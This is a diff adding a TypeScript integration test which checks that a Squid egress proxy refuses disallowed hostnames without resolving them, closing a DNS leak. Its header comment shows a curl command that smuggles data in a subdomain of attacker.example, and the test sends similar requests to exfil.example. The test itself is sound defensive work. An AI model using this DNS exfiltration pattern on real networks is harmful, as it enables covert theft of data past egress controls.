@@ -1,0 +1,95 @@
+// The egress proxy is no DNS channel: a request for a name no tenant allowed is refused without Squid
+// resolving it (a "dst" ACL before the tenants' name rules made it look up every requested name, so
+// `curl -x proxy http://<data>.attacker.example/` leaked <data> through DNS even when refused). A real
+// Squid of the test's own, with its tenant fragment written by the real provider handler, asks a resolver
+// the test runs on 127.0.0.1:53, which records every query and answers NXDOMAIN.
+import { execFile } from "node:child_process";
+import { createSocket, type Socket } from "node:dgram";
+import { promisify } from "node:util";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { livePid, run, waitFor } from "../../lib/process.js";
+import { squidPaths, squidProxy } from "../../lib/host/squid.js";
+import { squidTenantHandler, SquidTenantInputs } from "../../provider/resources/squid-tenant.js";
+import { isolatedHostConfig } from "../helpers/host.js";
+
+const exec = promisify(execFile);
+let host: Awaited<ReturnType<typeof isolatedHostConfig>>;
+let resolver: Socket;
+const queries: string[] = [];
+
+/** The query name of a DNS message (RFC 1035 §4.1.2: length-prefixed labels from byte 12). */
+function questionName(message: Buffer): string {
+  const labels: string[] = [];
+  for (let at = 12; at < message.length && message[at]! > 0; at += message[at]! + 1)
+    labels.push(message.subarray(at + 1, at + 1 + message[at]!).toString("latin1"));
+  return labels.join(".");
+}
+
+beforeAll(async () => {
+  resolver = createSocket("udp4");
+  resolver.on("message", (message, peer) => {
+    queries.push(questionName(message));
+    // NXDOMAIN (QR, RD, RA set; RCODE 3): Squid learns at once that the name does not resolve.
+    const answer = Buffer.from(message);
+    answer[2] = 0x81;
+    answer[3] = 0x83;
+    resolver.send(answer, peer.port, peer.address);
+  });
+  await new Promise<void>((resolve, reject) => {
+    resolver.once("error", reject);
+    resolver.bind(53, "127.0.0.1", () => resolve());
+  });
+  host = await isolatedHostConfig();
+  await squidProxy({ port: host.squidPort, dnsNameservers: ["127.0.0.1"], ...host }).ensure(() => undefined);
+  // A tenant whose "subnet" is the loopback, so that the test's own requests are that tenant's.
+  await squidTenantHandler.create(
+    SquidTenantInputs.parse({
+      tenantId: "dnsprobe",
+      subnet: "127.0.0.0/8",
+      domains: ["allowed.sandbox.test"],
+      configFile: squidPaths(host).config,
+      fragmentsDir: squidPaths(host).fragmentsDir,
+    }),
+  );
+}, 120_000);
+
+afterAll(async () => {
+  resolver?.close();
+  if (host) {
+    await run("squid", ["-k", "shutdown", "-f", squidPaths(host).config]).catch(() => undefined);
+    await waitFor("squid to exit", 15_000, async () =>
+      (await livePid(squidPaths(host).pidFile)) ? undefined : true,
+    ).catch(() => undefined);
+  }
+}, 60_000);
+
+/** The proxy's HTTP status for a GET of `url` through it. */
+async function through(url: string): Promise<string> {
+  const curl = exec("curl", [
+    ...["-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "20"],
+    ...["-x", `http://127.0.0.1:${host.squidPort}`, url],
+  ]);
+  // curl exits non-zero on a reset or empty answer; its status output is what the test compares.
+  return curl.then(
+    ({ stdout }) => stdout,
+    (error: { stdout?: string }) => error.stdout || "000",
+  );
+}
+
+describe("the egress proxy and DNS", () => {
+  it("refuses a name no tenant allowed without resolving it; resolves an allowed one to check where it leads", async () => {
+    const secret = `secret-payload-${Date.now()}`;
+    const refused = [
+      await through(`http://${secret}.exfil.example/`),
+      await through(`http://${secret}-connect.exfil.example:443/`),
+    ];
+    // The allowed name is resolved (the proxy checks it does not lead inward): the resolver is really
+    // asked, so the silence below is the rule's, not a resolver Squid never uses.
+    await through("http://allowed.sandbox.test/");
+    await waitFor("the allowed name's lookup", 10_000, async () =>
+      queries.some((q) => q === "allowed.sandbox.test") ? true : undefined,
+    );
+    expect(queries.filter((q) => q.includes("exfil"))).toEqual([]);
+    expect(refused).toEqual(["403", "403"]);
+  });
+});
